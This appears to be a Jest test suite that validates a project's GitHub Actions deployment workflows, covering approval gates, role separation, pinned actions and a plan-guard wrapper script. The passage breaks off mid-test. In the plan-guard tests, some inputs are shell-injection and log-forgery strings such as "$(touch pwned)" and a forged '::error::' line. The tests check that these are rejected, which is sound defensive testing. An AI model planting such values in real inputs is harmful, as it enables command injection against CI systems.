import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { validateAction, validateWorkflow } from "@action-validator/core";
import { parse } from "yaml";
import {
  checkDeployPipeline,
  checkPermissions,
  checkPinnedActions,
  checkReadOnly,
  checkRotateJobs,
  checkRotateTriggers,
  checkSecretsNotEchoed,
  checkTerraformSource,
  checkToolchainAction,
  isApplyStep,
  isGuardStep,
  isSmokeStep,
  Job,
  needsOf,
  permissionsOf,
  Step,
  Workflow,
} from "./support/workflow-rules";
import { planChecks } from "../.github/scripts/check-environment-gates";
import {
  checkAllowDestroy,
  checkApprovalGates,
  checkNoScriptExpressions,
  checkRoleEnvironments,
  checkRotationIsolation,
  checkPlanEnvironmentsHoldNothingPowerful,
  readsSecret,
} from "./support/workflow-safety-rules";

const ROOT = path.join(__dirname, "..");
const WORKFLOW_DIR = path.join(ROOT, ".github", "workflows");
const ACTION_FILE = path.join(ROOT, ".github", "actions", "setup-toolchain", "action.yml");

interface Loaded {
  file: string;
  text: string;
  doc: Workflow;
}

const workflowFiles = fs
  .readdirSync(WORKFLOW_DIR)
  .filter((f) => /\.ya?ml$/.test(f))
  .sort();
const loaded: Loaded[] = workflowFiles.map((file) => {
  const text = fs.readFileSync(path.join(WORKFLOW_DIR, file), "utf8");
  return { file, text, doc: parse(text) as Workflow };
});
const byName = (file: string): Loaded => {
  const found = loaded.find((l) => l.file === file);
  if (!found) throw new Error(`missing workflow ${file}`);
  return found;
};
const clone = <T>(value: T): T => structuredClone(value);
const job = (wf: Workflow, id: string): Job => {
  const j = wf.jobs[id];
  if (!j) throw new Error(`no job ${id}`);
  return j;
};
const stepsOf = (j: Job): Step[] => {
  if (!j.steps) throw new Error("job has no steps");
  return j.steps;
};
const move = <T>(list: T[], from: number, to: number): void => {
  const [item] = list.splice(from, 1);
  list.splice(to, 0, item);
};

describe("workflow files", () => {
  it("are the four expected workflows", () => {
    expect(workflowFiles).toEqual(expect.arrayContaining(["ci.yml", "deploy.yml", "drift.yml", "rotate-secrets.yml"]));
  });

  it.each(workflowFiles)("%s is valid against the GitHub workflow schema (action-validator)", (file) => {
    const result = validateWorkflow(byName(file).text);
    expect(result.errors).toEqual([]);
  });

  it("the composite toolchain action is valid against the action schema", () => {
    expect(validateAction(fs.readFileSync(ACTION_FILE, "utf8")).errors).toEqual([]);
  });

  it("action-validator does report errors (so the checks above can fail)", () => {
    const broken = byName("deploy.yml").text.replace("runs-on: ubuntu-24.04", "runs-onn: ubuntu-24.04");
    expect(validateWorkflow(broken).errors.length).toBeGreaterThan(0);
    expect(validateWorkflow("on: push\njobs: {}\npermissions:\n  id-token: writ\n").errors.length).toBeGreaterThan(0);
  });
});

describe.each(workflowFiles)("%s: common rules", (file) => {
  const { text, doc } = byName(file);

  it("pins every third-party action to a commit SHA with a version comment", () => {
    expect(checkPinnedActions(text, file)).toEqual([]);
  });

  it("grants id-token: write only to jobs that assume a role, and no unused write permission", () => {
    expect(checkPermissions(doc)).toEqual([]);
  });

  it("gets Terraform only from the toolchain action and sets TF_IN_AUTOMATION", () => {
    expect(checkTerraformSource(doc, text)).toEqual([]);
  });

  it("never puts secrets in run scripts or prints them", () => {
    expect(checkSecretsNotEchoed(doc)).toEqual([]);
  });

  it("assumes the plan role only in <env>-plan and the apply/rotation roles only in <env> (the roles' trust)", () => {
    expect(checkRoleEnvironments(doc)).toEqual([]);
  });

  it("puts no ${{ }} expression into run scripts or github-script code (values go through env:)", () => {
    expect(checkNoScriptExpressions(doc)).toEqual([]);
  });

  it("lets no job into staging or prod (literally or through a matrix) before a gate job, nor without its own re-check before credentials", () => {
    expect(checkApprovalGates(doc)).toEqual([]);
  });
});

describe("Terraform version: one place", () => {
  it(".terraform-version holds one exact version >= 1.10 (S3 use_lockfile)", () => {
    const version = fs.readFileSync(path.join(ROOT, ".terraform-version"), "utf8").trim();
    expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    const [major, minor] = version.split(".").map(Number);
    expect(major > 1 || (major === 1 && minor >= 10)).toBe(true);
  });

  it("the toolchain action reads it, with the wrapper off, and pins its actions", () => {
    const text = fs.readFileSync(ACTION_FILE, "utf8");
    expect(checkToolchainAction(parse(text))).toEqual([]);
    expect(checkPinnedActions(text, "setup-toolchain/action.yml")).toEqual([]);
  });

  it("no other file in .github names a Terraform version", () => {
    const offenders = loaded.filter((l) => /terraform_version|\b1\.\d+\.\d+\b.*terraform|terraform.*\b1\.\d+\.\d+\b/i.test(l.text)).map((l) => l.file);
    expect(offenders).toEqual([]);
  });
});

describe("deploy.yml", () => {
  const { doc } = byName("deploy.yml");

  it("promotes dev -> staging -> prod with saved plans, gated applies, guard, smoke and per-env concurrency", () => {
    expect(checkDeployPipeline(doc)).toEqual([]);
  });

  it("runs on push to main and workflow_dispatch, with one allow_destroy input per environment reaching only its own guard steps", () => {
    expect(Object.keys(doc.on)).toEqual(expect.arrayContaining(["push", "workflow_dispatch"]));
    expect(checkAllowDestroy(doc)).toEqual([]);
    expect(doc.env?.ALLOW_DESTROY).toBeUndefined();
    for (const env of ["dev", "staging", "prod"]) {
      for (const id of [`plan-${env}`, `apply-${env}`]) {
        const guard = stepsOf(job(doc, id)).find(isGuardStep);
        expect(guard?.env?.ALLOW_DESTROY).toBe(`\${{ inputs.allow_destroy_${env} }}`);
        expect(guard?.run).toMatch(/^bash \.github\/scripts\/plan-guard\.sh --plan /m);
      }
    }
  });

  it("plan jobs use the read-only plan role; apply jobs the apply role", () => {
    for (const env of ["dev", "staging", "prod"]) {
      const role = (id: string) => String(stepsOf(job(doc, id)).find((s) => (s.uses ?? "").startsWith("aws-actions/configure-aws-credentials@"))?.with?.["role-to-assume"]);
      expect(role(`plan-${env}`)).toBe("${{ vars.AWS_PLAN_ROLE_ARN }}");
      expect(role(`apply-${env}`)).toBe("${{ vars.AWS_APPLY_ROLE_ARN }}");
    }
  });

  it("synthesizes once and every plan/apply job uses that artifact", () => {
    const synthJobs = Object.entries(doc.jobs).filter(([, j]) => (j.steps ?? []).some((s) => /npm run synth/.test(s.run ?? "")));
    expect(synthJobs.map(([id]) => id)).toEqual(["synth"]);
    for (const [id, j] of Object.entries(doc.jobs)) {
      if (id === "synth" || id === "gates") continue;
      expect((j.steps ?? []).some((s) => s.with?.name === "cdktf-out-${{ github.run_id }}")).toBe(true);
    }
  });

  it("checks through the GitHub API that staging and prod are gated before any job enters them", () => {
    expect(checkApprovalGates(doc)).toEqual([]);
    const gates = job(doc, "gates");
    expect(gates.environment).toBeUndefined();
    expect(gates.needs).toBeUndefined();
    // Directly needed by the first job of the pipeline and by both protected applies.
    expect(job(doc, "plan-dev").needs).toEqual(expect.arrayContaining(["gates"]));
    expect(job(doc, "apply-staging").needs).toEqual(expect.arrayContaining(["gates"]));
    expect(job(doc, "apply-prod").needs).toEqual(expect.arrayContaining(["gates"]));
    // And each protected apply checks its own environment again, after the approval and before any credential.
    for (const env of ["staging", "prod"]) {
      const s = stepsOf(job(doc, `apply-${env}`));
      const recheck = s.findIndex((x) => x.run === "node .github/scripts/check-environment-gates.js" && x.env?.GATE_ENVIRONMENTS === env);
      expect(recheck).toBeGreaterThanOrEqual(0);
      expect(recheck).toBeLessThan(s.findIndex((x) => (x.uses ?? "").startsWith("aws-actions/configure-aws-credentials@")));
    }
  });

  describe("approval gate and allow_destroy rules fail on broken copies", () => {
    const gateViolations = (mutate: (wf: Workflow) => void): string => {
      const wf = clone(doc);
      mutate(wf);
      return checkApprovalGates(wf).join("\n");
    };
    const gateStep = (wf: Workflow): Step => {
      const s = stepsOf(job(wf, "gates")).find((x) => /check-environment-gates/.test(x.run ?? ""));
      if (!s) throw new Error("no gate step");
      return s;
    };

    it("a protected job hidden behind an expression (attacker review), and one reached through a matrix", () => {
      const hidden = gateViolations((wf) => {
        const j = job(wf, "apply-prod");
        j.environment = "${{ 'prod' }}";
        j.needs = "plan-prod";
      });
      expect(hidden).toMatch(/apply-prod: environment "\$\{\{ 'prod' \}\}" is an expression this rule cannot read/);
      const viaMatrix = gateViolations((wf) => {
        const j = job(wf, "apply-prod");
        j.environment = "${{ matrix.env }}";
        j.strategy = { matrix: { env: ["prod"] } };
        j.needs = "synth";
      });
      expect(viaMatrix).toMatch(/apply-prod: runs in protected environment "prod" without \(transitively\) needing a gate job/);
    });

    it("gate job removed", () => {
      const out = gateViolations((wf) => {
        delete wf.jobs.gates;
        job(wf, "plan-dev").needs = "synth";
        job(wf, "apply-staging").needs = "plan-staging";
        job(wf, "apply-prod").needs = "plan-prod";
      });
      expect(out).toMatch(/no job runs \.github\/scripts\/check-environment-gates\.js/);
      expect(out).toMatch(/apply-staging: runs in protected environment "staging" without \(transitively\) needing a gate job/);
      expect(out).toMatch(/apply-prod: runs in protected environment "prod" without/);
    });
    it("an apply that does not wait for the gate", () => {
      const out = gateViolations((wf) => {
        job(wf, "plan-dev").needs = "synth";
        job(wf, "apply-staging").needs = "plan-staging";
      });
      expect(out).toMatch(/apply-staging: runs in protected environment "staging" without/);
      // apply-prod still needs the gate directly.
      expect(out).not.toMatch(/apply-prod/);
      // Either path alone gates: without plan-dev's, the direct needs; without apply-prod's, the path through staging.
      expect(gateViolations((wf) => (job(wf, "plan-dev").needs = "synth"))).toBe("");
      expect(gateViolations((wf) => (job(wf, "apply-prod").needs = "plan-prod"))).toBe("");
    });
    it("the gate checks staging only", () => {
      expect(gateViolations((wf) => (gateStep(wf).env = { ...gateStep(wf).env, GATE_ENVIRONMENTS: "staging" }))).toMatch(/apply-prod: runs in protected environment "prod"/);
    });
    it("a job on the way runs after a failed gate", () => {
      expect(gateViolations((wf) => (job(wf, "apply-prod").if = "always()"))).toMatch(/apply-prod: apply-prod has if: always\(\)/);
      const viaPlan = gateViolations((wf) => {
        job(wf, "apply-staging").needs = "plan-staging";
        job(wf, "plan-staging").if = "!cancelled()";
      });
      expect(viaPlan).toMatch(/apply-staging: plan-staging has if: !cancelled\(\)/);
    });
    it("the gate job in an environment, without actions: read, conditional, or continuing on error", () => {
      expect(gateViolations((wf) => (job(wf, "gates").environment = "dev"))).toMatch(/gates: the gate job must not name an environment/);
      // In a protected environment it is no gate at all but a protected job (attacker review F3: it used to be told
      // "the gate job must not name an environment", hiding that nothing gates it).
      const inProd = gateViolations((wf) => (job(wf, "gates").environment = "prod"));
      expect(inProd).toMatch(/gates: runs in protected environment "prod" without \(transitively\) needing a gate job/);
      expect(inProd).not.toMatch(/the gate job must not name an environment/);
      expect(gateViolations((wf) => (job(wf, "gates").permissions = { contents: "read" }))).toMatch(/gates: the gate job needs permissions actions: read/);
      expect(gateViolations((wf) => (job(wf, "gates").if = "github.event_name == 'push'"))).toMatch(/gates: the gate job must not be conditional/);
      expect(gateViolations((wf) => Object.assign(gateStep(wf), { "continue-on-error": true }))).toMatch(/the gate step must not be conditional or continue on error/);
      expect(gateViolations((wf) => (gateStep(wf).env = { GATE_ENVIRONMENTS: "staging prod" }))).toMatch(/must get GITHUB_TOKEN from github.token/);
    });
    it("a protected apply without its own re-check before credentials", () => {
      const recheck = (wf: Workflow, id: string) => stepsOf(job(wf, id)).findIndex((x) => /check-environment-gates/.test(x.run ?? ""));
      expect(gateViolations((wf) => stepsOf(job(wf, "apply-prod")).splice(recheck(wf, "apply-prod"), 1))).toMatch(/apply-prod: must check again that "prod" is gated, in the job, before it assumes a role/);
      const late = gateViolations((wf) => {
        const s = stepsOf(job(wf, "apply-staging"));
        move(s, recheck(wf, "apply-staging"), s.findIndex(isApplyStep));
      });
      expect(late).toMatch(/apply-staging: must check again that "staging" is gated/);
      const otherEnv = gateViolations((wf) => {
        const step = stepsOf(job(wf, "apply-prod"))[recheck(wf, "apply-prod")];
        step.env = { ...step.env, GATE_ENVIRONMENTS: "staging" };
      });
      expect(otherEnv).toMatch(/apply-prod: must check again that "prod" is gated/);
    });
    it("gate step that does something else than run the script", () => {
      expect(gateViolations((wf) => (gateStep(wf).run = "node .github/scripts/check-environment-gates.js || true"))).toMatch(/no job runs/);
    });

    const destroyViolations = (mutate: (wf: Workflow) => void): string => {
      const wf = clone(doc);
      mutate(wf);
      return checkAllowDestroy(wf).join("\n");
    };
    it("one allow_destroy for every environment, or at workflow level", () => {
      const out = destroyViolations((wf) => {
        const inputs = (wf.on.workflow_dispatch as { inputs: Record<string, unknown> }).inputs;
        delete inputs.allow_destroy_prod;
        inputs.allow_destroy = { type: "string" };
        wf.env = { ...wf.env, ALLOW_DESTROY: "${{ inputs.allow_destroy }}" };
      });
      expect(out).toMatch(/input allow_destroy: allow_destroy inputs must be per environment/);
      expect(out).toMatch(/needs a string input allow_destroy_prod/);
      expect(out).toMatch(/workflow env must not carry allow_destroy/);
    });
    it("another environment's input, interpolation into the script, or the guard called directly", () => {
      const wrongEnv = destroyViolations((wf) => {
        const guard = stepsOf(job(wf, "apply-prod")).find(isGuardStep);
        if (!guard) throw new Error("no guard");
        guard.env = { ALLOW_DESTROY: "${{ inputs.allow_destroy_dev }}" };
      });
      expect(wrongEnv).toMatch(/apply-prod step \d+ \(Plan guard \(again, on the saved plan\)\): allow_destroy_dev reaches a prod job/);
      expect(wrongEnv).toMatch(/apply-prod: its plan-guard step must get ALLOW_DESTROY from inputs.allow_destroy_prod only/);
      const spliced = destroyViolations((wf) => {
        const guard = stepsOf(job(wf, "plan-staging")).find(isGuardStep);
        if (!guard) throw new Error("no guard");
        guard.run = `${guard.run} --allow-destroy "\${{ inputs.allow_destroy_staging }}"`;
      });
      expect(spliced).toMatch(/plan-staging step \d+ \(Plan guard\): allow_destroy interpolated outside env:/);
      const direct = destroyViolations((wf) => {
        const guard = stepsOf(job(wf, "plan-dev")).find(isGuardStep);
        if (!guard) throw new Error("no guard");
        guard.run = 'npm run --silent plan-guard -- --plan "$STACK_DIR/$TF_ENV.plan.json" --allow-destroy "$ALLOW_DESTROY"';
      });
      expect(direct).toMatch(/plan-dev: plan-guard must run through \.github\/scripts\/plan-guard\.sh/);
      const leaked = destroyViolations((wf) => {
        stepsOf(job(wf, "apply-dev")).push({ name: "echo", run: "echo hi", env: { X: "${{ inputs.allow_destroy_dev }}" } });
      });
      expect(leaked).toMatch(/apply-dev step \d+ \(echo\): allow_destroy_dev is passed to a step that is not plan-guard/);
    });
  });

  describe("rules fail on broken copies", () => {
    const violations = (mutate: (wf: Workflow) => void): string[] => {
      const wf = clone(doc);
      mutate(wf);
      return checkDeployPipeline(wf);
    };

    it("prod not waiting for staging's smoke", () => {
      expect(violations((wf) => (job(wf, "plan-prod").needs = ["synth"])).join("\n")).toMatch(/plan-prod: prod job must \(transitively\) need apply-staging/);
    });
    it("staging not waiting for dev's smoke", () => {
      expect(violations((wf) => (job(wf, "plan-staging").needs = "synth")).join("\n")).toMatch(/staging job must \(transitively\) need apply-dev/);
    });
    it("apply job outside its GitHub environment", () => {
      expect(violations((wf) => (job(wf, "apply-prod").environment = "prod-plan")).join("\n")).toMatch(/prod: expected exactly one job applying it|must run in GitHub environment/);
      expect(violations((wf) => delete job(wf, "apply-staging").environment).join("\n")).toMatch(/staging/);
    });
    it("plan downloaded from another run", () => {
      const out = violations((wf) => {
        const dl = stepsOf(job(wf, "apply-prod")).find((s) => String(s.with?.name ?? "").startsWith("tfplan-"));
        if (!dl?.with) throw new Error("no download step");
        dl.with["run-id"] = "${{ inputs.plan_run_id }}";
        dl.with["github-token"] = "${{ github.token }}";
      });
      expect(out.join("\n")).toMatch(/apply-prod: downloads the plan from another run/);
    });
    it("plan artifact not produced by the job it needs", () => {
      const out = violations((wf) => {
        const dl = stepsOf(job(wf, "apply-dev")).find((s) => String(s.with?.name ?? "").startsWith("tfplan-"));
        if (!dl?.with) throw new Error("no download step");
        dl.with.name = "tfplan-staging-${{ github.run_id }}";
      });
      expect(out.join("\n")).toMatch(/apply-dev: the plan artifact tfplan-staging-.* must be uploaded by a job it needs/);
    });
    it("a fresh plan / auto-approve instead of the saved plan", () => {
      const out = violations((wf) => {
        const apply = stepsOf(job(wf, "apply-dev")).find(isApplyStep);
        if (!apply) throw new Error("no apply step");
        apply.run = 'terraform -chdir="$STACK_DIR" apply -input=false -auto-approve';
      });
      expect(out.join("\n")).toMatch(/must apply the saved \.tfplan file[\s\S]*must not use -auto-approve/);
      const replan = violations((wf) => {
        stepsOf(job(wf, "apply-dev")).splice(5, 0, { run: 'terraform -chdir="$STACK_DIR" plan -out="$TF_ENV.tfplan"' });
      });
      expect(replan.join("\n")).toMatch(/apply-dev: makes a fresh terraform plan/);
    });
    it("guard after apply, or missing", () => {
      const after = violations((wf) => {
        const s = stepsOf(job(wf, "apply-staging"));
        move(s, s.findIndex(isGuardStep), s.findIndex(isApplyStep));
      });
      expect(after).toContain("apply-staging: plan-guard must run before terraform apply in the same job");
      const missing = violations((wf) => {
        const s = stepsOf(job(wf, "apply-staging"));
        s.splice(s.findIndex(isGuardStep), 1);
      });
      expect(missing).toContain("apply-staging: plan-guard must run before terraform apply in the same job");
    });
    it("smoke before apply", () => {
      const out = violations((wf) => {
        const s = stepsOf(job(wf, "apply-dev"));
        move(s, s.findIndex(isSmokeStep), s.findIndex(isApplyStep));
      });
      expect(out).toContain("apply-dev: smoke tests must run after terraform apply");
    });
    it("concurrency that cancels, or is shared across environments", () => {
      expect(violations((wf) => (job(wf, "apply-prod").concurrency = { group: "deploy-prod", "cancel-in-progress": true })).join("\n")).toMatch(/apply-prod: needs concurrency/);
      expect(violations((wf) => (job(wf, "apply-dev").concurrency = { group: "deploy", "cancel-in-progress": false })).join("\n")).toMatch(/apply-dev: needs concurrency/);
      expect(violations((wf) => delete job(wf, "apply-staging").concurrency).join("\n")).toMatch(/apply-staging: needs concurrency/);
    });
  });
});

describe(".github/scripts/plan-guard.sh: one environment's allow_destroy, checked and recorded (npm faked)", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "guard-wrapper-"));
  const bin = path.join(dir, "bin");
  fs.mkdirSync(bin);
  // Writes its arguments to a file and FAKE_NPM_STDERR (plan-guard's BLOCKED lines) to stderr, as plan-guard does.
  fs.writeFileSync(path.join(bin, "npm"), '#!/bin/sh\nprintf "%s\\n" "$@" > "$FAKE_NPM_ARGS"\nprintf "%s" "${FAKE_NPM_STDERR:-}" >&2\nexit "${FAKE_NPM_STATUS:-0}"\n', { mode: 0o755 });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  const runWrapper = (allowDestroy: string, status = 0, stderr = "") => {
    const work = fs.mkdtempSync(path.join(dir, "work-"));
    const argsFile = path.join(work, "npm-args");
    const summary = path.join(work, "summary.md");
    const result = spawnSync("bash", [path.join(ROOT, ".github", "scripts", "plan-guard.sh"), "--plan", "prod.plan.json"], {
      cwd: work,
      encoding: "utf8",
      env: { PATH: `${bin}:${process.env.PATH}`, TF_ENV: "prod", ALLOW_DESTROY: allowDestroy, GITHUB_ACTOR: "alice", GITHUB_STEP_SUMMARY: summary, FAKE_NPM_ARGS: argsFile, FAKE_NPM_STATUS: String(status), FAKE_NPM_STDERR: stderr },
    });
    const read = (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, "utf8") : undefined);
    return { code: result.status, stdout: result.stdout, stderr: result.stderr, args: read(argsFile)?.trim().split("\n"), summary: read(summary) ?? "", work };
  };

  it("passes each pattern as its own --allow-destroy and records them in the job summary", () => {
    const r = runWrapper(' aws_sqs_queue.dlq,module.rule_x.aws_sqs_queue.dlq["a"]\taws_kms_alias.old* ');
    expect(r.code).toBe(0);
    expect(r.args).toEqual([
      "run", "--silent", "plan-guard", "--", "--plan", "prod.plan.json",
      "--allow-destroy=aws_sqs_queue.dlq", '--allow-destroy=module.rule_x.aws_sqs_queue.dlq["a"]', "--allow-destroy=aws_kms_alias.old*",
    ]);
    expect(r.summary).toContain('**allow_destroy for prod** (input `allow_destroy_prod`, run started by @alice): `aws_sqs_queue.dlq`, `module.rule_x.aws_sqs_queue.dlq["a"]`, `aws_kms_alias.old*`');
  });

  it("passes no --allow-destroy when the input is empty, says so, and keeps plan-guard's exit code", () => {
    const r = runWrapper("", 2);
    expect(r.code).toBe(2);
    expect(r.args).toEqual(["run", "--silent", "plan-guard", "--", "--plan", "prod.plan.json"]);
    expect(r.summary).toContain("**allow_destroy for prod:** none");
  });

  // plan-guard's stderr lines on exit 2 (scripts/lib/plan-guard/report.ts, blockedMessage).
  const blockedLine = (change: string, type: string, address: string) => `plan-guard: BLOCKED: ${change} of protected ${type} ${address} is not allowed without --allow-destroy\n`;

  it("when blocked (exit 2), says how to allow it in CI: a new Deploy dispatch with allow_destroy_<env> naming the blocked addresses", () => {
    const stderr =
      blockedLine("forget", "aws_cloudwatch_log_resource_policy", "aws_cloudwatch_log_resource_policy.log_delivery") +
      blockedLine("replace [delete, create]", "aws_sqs_queue", 'module.rule_x.aws_sqs_queue.dlq["a"]') +
      "plan-guard: BLOCKED: update of protected kms_key_id of aws_sqs_queue aws_sqs_queue.main is not allowed without --allow-destroy\n";
    const r = runWrapper("", 2, stderr);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(stderr);
    const list = 'aws_cloudwatch_log_resource_policy.log_delivery module.rule_x.aws_sqs_queue.dlq["a"] aws_sqs_queue.main';
    const lines = r.stdout.split("\n").filter((l) => l.startsWith("::error title=plan-guard blocked (prod)::"));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(`dispatch Deploy (Actions → Deploy → Run workflow, or gh workflow run deploy.yml --ref main -f 'allow_destroy_prod=${list}') with allow_destroy_prod set to the blocked addresses: ${list}.`);
    expect(lines[0]).toContain("A re-run keeps the old inputs");
    expect(r.summary).toContain(`**plan-guard blocked prod.** To allow it in CI, dispatch Deploy`);
    expect(r.summary).toContain(
      "with `allow_destroy_prod` set to the blocked addresses: `aws_cloudwatch_log_resource_policy.log_delivery`, `module.rule_x.aws_sqs_queue.dlq[\"a\"]`, `aws_sqs_queue.main`. A re-run keeps the old inputs",
    );
    expect(r.summary).toContain(`\`gh workflow run deploy.yml --ref main -f 'allow_destroy_prod=${list}'\``);
    // Not blocked (0), or bad input (3): no such hint.
    expect(runWrapper("", 0).stdout).not.toContain("dispatch Deploy");
    expect(runWrapper("", 3, "plan-guard: bad input: x\n").stdout).not.toContain("dispatch Deploy");
  });

  it("names no address it cannot vouch for, and runs none: addresses from the plan are data", () => {
    const stderr =
      blockedLine("delete", "aws_sqs_queue", "aws_sqs_queue.q[\"$(touch pwned)\"]") +
      blockedLine("delete", "aws_sqs_queue", 'aws_sqs_queue.q["a of b"]') +
      blockedLine("delete", "aws_sqs_queue", "aws_sqs_queue.q[\"x'`touch pwned`\"]") +
      "plan-guard: BLOCKED: delete of protected aws_sqs_queue aws_sqs_queue.ok is not allowed without --allow-destroy\n::error::forged\n";
    const r = runWrapper("", 2, stderr);
    expect(r.code).toBe(2);
    expect(fs.existsSync(path.join(r.work, "pwned"))).toBe(false);
    const hint = r.stdout.split("\n").filter((l) => l.startsWith("::error title=plan-guard blocked (prod)::"));
    expect(hint).toHaveLength(1);
    expect(hint[0]).toContain("-f 'allow_destroy_prod=aws_sqs_queue.ok')");
    expect(hint[0]).toContain("(3 more blocked address(es) hold characters the input does not accept");
    expect(hint[0]).not.toMatch(/pwned|a of b|\bb"\]/);
    expect(r.stdout).not.toMatch(/^::error::forged/m);
  });

  it.each(["*", "**", "*.*", "module.*", "module.*.*", "aws_sqs_queue.dlq *"])("rejects %j, which matches everything, without running plan-guard", (input) => {
    const r = runWrapper(input);
    expect(r.code).toBe(3);
    expect(r.args).toBeUndefined();
    expect(r.stdout).toMatch(/^::error title=allow_destroy_prod rejected::pattern '[*.module]+' matches every address/m);
    expect(r.summary).toContain("**allow_destroy for prod: REJECTED**");
  });

  it("rejects characters that are no part of an address, and never runs them", () => {
    for (const input of ["$(touch pwned)", "aws_x.y;touch pwned", "`touch pwned`", "aws_x.y\n::error::forged", "--plan", "-x", "_x.y", "[0]"]) {
      const r = runWrapper(input);
      expect(r.code).toBe(3);
      expect(r.args).toBeUndefined();
      expect(fs.existsSync(path.join(r.work, "pwned"))).toBe(false);
      expect(r.stdout).not.toMatch(/^::error::forged/m);
    }
  });
});

describe("ci.yml and drift.yml are read-only", () => {
  it.each(["ci.yml", "drift.yml"])("%s never applies and only assumes the plan role", (file) => {
    expect(checkReadOnly(byName(file).doc)).toEqual([]);
  });

  it("ci's guard step, when blocked, says a destroy is allowed after merge through a Deploy dispatch, and keeps exit 2", () => {
    const run = String(stepsOf(job(byName("ci.yml").doc, "plan")).find(isGuardStep)?.run);
    const work = fs.mkdtempSync(path.join(os.tmpdir(), "ci-guard-"));
    try {
      fs.mkdirSync(path.join(work, "bin"));
      fs.mkdirSync(path.join(work, "report"));
      fs.writeFileSync(path.join(work, "bin", "npm"), '#!/bin/sh\necho "### Plan for staging" > report/staging.guard.md\nexit "$FAKE_STATUS"\n', { mode: 0o755 });
      const step = (status: number) => {
        const r = spawnSync("bash", ["-e", "-c", run], { cwd: work, encoding: "utf8", env: { PATH: `${path.join(work, "bin")}:${process.env.PATH}`, TF_ENV: "staging", STACK_DIR: "s", FAKE_STATUS: String(status) } });
        return { code: r.status, stdout: r.stdout, md: fs.readFileSync(path.join(work, "report", "staging.guard.md"), "utf8") };
      };
      const blocked = step(2);
      expect(blocked.code).toBe(2);
      expect(blocked.stdout).toMatch(/^::error title=plan-guard blocked \(staging\)::A pull request cannot allow a destroy\. If it is intended, merge, then dispatch Deploy .*allow_destroy_staging=<addresses>/m);
      expect(blocked.md).toContain("merge, then dispatch Deploy");
      const ok = step(0);
      expect([ok.code, ok.stdout, ok.md]).toEqual([0, "", "### Plan for staging\n"]);
      expect(step(3).code).toBe(3);
    } finally {
      fs.rmSync(work, { recursive: true, force: true });
    }
  });

  it("ci plans every environment, runs plan-guard with --summary-md and comments once per environment", () => {
    const { doc } = byName("ci.yml");
    expect(Object.keys(doc.on)).toEqual(["pull_request"]);
    const plan = job(doc, "plan");
    expect((plan.strategy?.matrix as { env: string[] }).env).toEqual(["dev", "staging", "prod"]);
    const steps = stepsOf(plan);
    const planIdx = steps.findIndex((s) => /terraform\b.*\splan\s.*-out=/.test(s.run ?? ""));
    const guardIdx = steps.findIndex(isGuardStep);
    expect(planIdx).toBeGreaterThanOrEqual(0);
    expect(guardIdx).toBeGreaterThan(planIdx);
    expect(steps[guardIdx].run).toContain("--summary-md");
    expect(steps.some((s) => /GITHUB_STEP_SUMMARY/.test(s.run ?? ""))).toBe(true);
    const script = String(stepsOf(job(doc, "comment")).find((s) => s.with?.script)?.with?.script);
    expect(script).toMatch(/<!-- genesys-eventbridge-infra:plan:\$\{env\} -->/);
    expect(script).toMatch(/updateComment/);
    expect(script).toMatch(/createComment/);
  });

  it("drift plans with -detailed-exitcode nightly and fails on a non-empty plan", () => {
    const { doc } = byName("drift.yml");
    expect((doc.on.schedule as { cron: string }[])[0].cron).toMatch(/^\d+ \d+ \* \* \*$/);
    expect(doc.on).toHaveProperty("workflow_dispatch");
    const steps = stepsOf(job(doc, "drift"));
    expect(steps.some((s) => /plan\s[^\n]*-detailed-exitcode/.test(s.run ?? ""))).toBe(true);
    const fail = steps.find((s) => s.if === "steps.plan.outputs.exitcode == '2'" && /exit 1/.test(s.run ?? ""));
    expect(fail).toBeDefined();
  });

  it("checkReadOnly catches an apply or the apply role", () => {
    const wf = clone(byName("drift.yml").doc);
    stepsOf(job(wf, "drift")).push({ run: 'terraform -chdir="$STACK_DIR" apply "$TF_ENV.tfplan"' });
    const configure = stepsOf(job(wf, "drift")).find((s) => (s.uses ?? "").startsWith("aws-actions/"));
    if (!configure?.with) throw new Error("no configure step");
    configure.with["role-to-assume"] = "${{ vars.AWS_APPLY_ROLE_ARN }}";
    expect(checkReadOnly(wf)).toEqual(["drift: runs terraform apply in a plan-only workflow", "drift: assumes a role other than the plan role"]);
  });
});

describe("rotate-secrets.yml", () => {
  const { doc } = byName("rotate-secrets.yml");

  it("has the monthly cron and the environment choice input", () => {
    expect(checkRotateTriggers(doc)).toEqual([]);
  });

  it("rotates with the rotation role in the GitHub environment, then runs the token smoke test", () => {
    expect(checkRotateJobs(doc)).toEqual([]);
  });

  it("never uses the apply role: rotation role, outputs read by a plan-role job in <env>-plan, concurrency shared with deploy", () => {
    expect(checkRotationIsolation(doc)).toEqual([]);
    expect(JSON.stringify(doc)).not.toContain("AWS_APPLY_ROLE_ARN");
  });

  it("shares one concurrency group per environment with deploy.yml's apply job (which runs rotate --bootstrap-only)", () => {
    const deploy = byName("deploy.yml").doc;
    const rotateGroup = (env: string) => {
      const c = job(doc, "rotate").concurrency;
      if (typeof c !== "object") throw new Error("rotate has no concurrency map");
      return { group: c.group.replace(/\$\{\{\s*matrix\.env\s*\}\}/, env), cancel: c["cancel-in-progress"] };
    };
    for (const env of ["dev", "staging", "prod"]) {
      const apply = job(deploy, `apply-${env}`);
      expect(stepsOf(apply).some((s) => /rotate -- --env "\$TF_ENV" --all --bootstrap-only/.test(s.run ?? ""))).toBe(true);
      const c = apply.concurrency;
      if (typeof c !== "object") throw new Error("apply has no concurrency map");
      expect(rotateGroup(env)).toEqual({ group: c.group, cancel: false });
      expect(c.group).toBe(`deploy-${env}`);
    }
  });

  it("rotation isolation rules fail on broken copies", () => {
    const applyRole = clone(doc);
    const configure = stepsOf(job(applyRole, "rotate")).find((s) => (s.uses ?? "").startsWith("aws-actions/"));
    if (!configure?.with) throw new Error("no configure step");
    configure.with["role-to-assume"] = "${{ vars.AWS_APPLY_ROLE_ARN }}";
    expect(checkRotationIsolation(applyRole).join("\n")).toMatch(/rotate: must assume only the rotation role/);
    expect(checkRotateJobs(applyRole).join("\n")).toMatch(/rotate: must assume the rotation role/);

    const ownGroup = clone(doc);
